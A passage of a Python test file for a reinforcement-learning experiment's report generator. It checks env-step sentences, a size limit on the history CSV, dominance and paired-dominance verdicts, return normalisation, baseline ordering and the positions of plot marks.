    write_json(run.search / "front.json", front)
    md = write_report(run.load_config(), run).read_text()
    assert "45,678 env steps in ? episodes racing ? candidates" in md
    assert "34,567 in ? re-scoring the front" in md
    del front["delivery"]["final_env_steps"]
    write_json(run.search / "front.json", front)
    assert "then the delivery" not in write_report(run.load_config(), run).read_text()


def test_a_search_table_past_its_size_limit_is_named_not_read(tmp_path: Path) -> None:
    """A planted history.csv of one-field rows became a dict per row, about 140 times its
    bytes: past the limit it is named under Missing and the report goes on without it."""
    run = make_run(tmp_path / "run", baselines=False)
    path = run.search / "history.csv"
    with open(path, "ab") as f:
        f.truncate(MAX_CSV_BYTES + 1)  # sparse
    data = run_data.load_run(run.load_config(), run)
    assert data.history == []
    said = [x for x in data.missing if x.startswith("search history:")]
    assert said and f"more than the {MAX_CSV_BYTES:,} the report reads" in said[0]


def _row(label: str, flops: float, norm: float, returns: tuple[float, ...] | None = None) -> Row:
    return Row(label=label, arch=f"mlp-{label}", flops=flops, params=None, latency_ms=None,
               return_mean=100.0 * norm, return_std=1.0, episodes=5, normalised_return=norm,
               seeds=None if returns is None else tuple(range(len(returns))),
               episode_returns=returns)  # fmt: skip


def test_dominance_names_the_best_of_the_cheapest_winners() -> None:
    """Of two winners at the same (lowest) FLOPs, the sentence names the one with the higher
    normalised return: the cheapest, then the best."""
    from a2d_evo.report.verdicts import dominance

    baseline = _row("base", 1000.0, 0.5)
    front = [_row("low", 400.0, 0.6), _row("high", 400.0, 0.8), _row("dear", 900.0, 0.9)]
    won, text = dominance(baseline, front, span=100.0)
    assert won and "dominated** by 3 of 3" in text
    assert "#high `mlp-high`" in text and "#low" not in text


def test_paired_dominance_is_undecided_with_a_negative_span() -> None:
    """A teacher below random (R_teacher - R_random < 0) gives no paired verdict: dividing by
    a negative span would turn every difference's sign around."""
    from a2d_evo.report.verdicts import paired_dominance

    baseline = _row("base", 1000.0, 0.5, (50.0, 52.0, 48.0))
    front = [_row("a", 400.0, 0.1, (10.0, 12.0, 8.0))]
    verdict, text = paired_dominance(baseline, front, span=-100.0)
    assert verdict is None and "no R_teacher - R_random" in text
    verdict, _ = paired_dominance(baseline, front, span=100.0)
    assert verdict is False  # behind by 0.4 of the span on every seed


def test_history_rows_without_positive_flops_are_not_read(tmp_path: Path) -> None:
    """The report plots the history on a log FLOPs axis: rows of 0 or negative FLOPs (a
    damaged ``history.csv``) are skipped like unparsable ones, the others are read."""
    from a2d_evo.report.run_files import read_history

    path = tmp_path / "history.csv"
    path.write_text(
        "flops,return_mean,episodes\n100,1.5,4\n0,2.0,4\n-5,3.0,4\nnan,1.0,4\n250,2.5,8\n"
    )
    missing: list[str] = []
    assert read_history(path, missing) == ([(100.0, 1.5), (250.0, 2.5)], [4, 8])
    assert missing == []


def test_the_report_normalises_by_the_front_s_references_before_the_teacher_s(
    tmp_path: Path,
) -> None:
    """R_random and R_teacher come from ``front.json``'s normalisation (the final seeds that
    scored the members); the teacher's own ``metrics.json`` figures, of other seeds, only
    where the front has none."""

    from a2d_evo.config import config_from_dict
    from a2d_evo.report.run_data import load_run

    run = make_run(tmp_path / "run", baselines=False)
    teacher = _metrics(8000, R_TEACHER + 7.0, 4.0, 17, random_return_mean=R_RANDOM + 3.0)
    _agent(run.teacher_agent, (64, 64), teacher)
    data = load_run(config_from_dict({}), run)
    assert (data.norm.r_random, data.norm.r_teacher) == (R_RANDOM, R_TEACHER)


def test_baselines_are_listed_by_method_then_growing_width() -> None:
    """The report lists the baselines PPO, distill, A2D, each from the narrowest width
    multiplier up (x0.25, x0.5, x1), then any other method."""
    from dataclasses import replace

    from a2d_evo.report.run_data import _baseline_order

    kinds = [("a2d", 0.5), ("distill", 1.0), ("other", 0.25), ("ppo", 0.5), ("distill", 0.25),
             ("ppo", 1.0), ("ppo", 0.25)]  # fmt: skip
    rows = [
        replace(_row(f"{m}_x{w:g}", 100.0, 0.5), extra={"method": m, "width_multiplier": w})
        for m, w in kinds
    ]
    order = [r.label for r in sorted(rows, key=_baseline_order)]
    assert order == ["ppo_x0.25", "ppo_x0.5", "ppo_x1", "distill_x0.25", "distill_x1",
                     "a2d_x0.5", "other_x0.25"]  # fmt: skip


def test_a_method_outside_the_order_is_drawn_rightmost() -> None:
    """a2d_evo/report/plots.py baseline_marks/_method_rank: a baseline whose method is not in
    METHOD_ORDER (ppo, distill, a2d) sorts after them, so it is drawn rightmost and carries
    its width's label. Mutant let through: the unknown rank ``len(METHOD_ORDER)`` made -1,
    which drew it leftmost and moved the label to a2d's mark."""
    from a2d_evo.report.plots import DODGE_DECADES, baseline_marks
    from a2d_evo.report.rows import Row

    def row(name: str, method: str) -> Row:
        return Row(name, "mlp-16x16", 1000, None, None, 500.0, 0.0, 30, 1.0,
                   extra={"method": method, "width_multiplier": 0.25})  # fmt: skip

    marks = {r.label: (x, labelled) for r, x, labelled in baseline_marks(
        [row("bc_x0.25", "bc"), row("ppo_x0.25", "ppo"), row("a2d_x0.25", "a2d")]
    )}  # fmt: skip
    step = 10**DODGE_DECADES
    # order ppo (rank 0), a2d (2), bc (3, unknown): i = 0, 1, 2 of 3, shifted by
    # (i - (3 - 1) / 2) * DODGE_DECADES = -1, 0, +1 steps: x = 1000 / step, 1000, 1000 * step
    assert marks["ppo_x0.25"] == (pytest.approx(1000 / step), False)
    assert marks["a2d_x0.25"] == (pytest.approx(1000), False)
    assert marks["bc_x0.25"] == (pytest.approx(1000 * step), True)
